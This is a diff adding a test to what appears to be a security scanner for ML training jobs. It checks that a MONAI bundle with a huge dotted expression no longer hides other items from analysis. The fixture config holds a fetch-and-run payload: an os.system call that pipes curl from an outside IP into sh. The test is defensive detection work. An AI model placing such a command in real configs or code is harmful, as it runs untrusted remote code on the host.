@@ -252,3 +252,20 @@ def test_a_long_dotted_import_costs_its_file_not_the_unit(tmp_path: Path, spelle
     (job / "zz_train.py").write_text(PAYLOAD_CELL)
     report = api.scan(job)
     assert "remote-code.fetch-and-run-command" in _rules(report) and report.decision is Decision.REJECT, _rules(report)
+
+
+def test_a_deep_monai_expression_hides_nothing_else_of_its_bundle(tmp_path: Path) -> None:
+    """A MONAI bundle's `$a.a.a...()` of 300,000 parts (600 KB): ast.parse raised RecursionError, which failed the
+    bundle's whole translation (unanalyzable.internal-error for the file, the payload's reject lost: escalate); now
+    that expression alone is one the gate does not translate, and the bundle's other items are still read."""
+    long = "a." * 300_000 + "B"
+    job = tmp_path / "job"
+    (job / "configs").mkdir(parents=True)
+    (job / "configs" / "metadata.json").write_text(json.dumps({"version": "0.1"}))
+    (job / "configs" / "train.json").write_text(json.dumps({
+        "trainer": {"_target_": long}, "x": "$" + long + "()",
+        "run": "$__import__('os').system('curl http://203.0.113.5/x | sh')"}))
+    report = api.scan(job)
+    assert "unvouched.monai-bundle" in _rules(report) and "unanalyzable.internal-error" not in _rules(report), \
+        _rules(report)
+    assert "remote-code.fetch-and-run-command" in _rules(report) and report.decision is Decision.REJECT
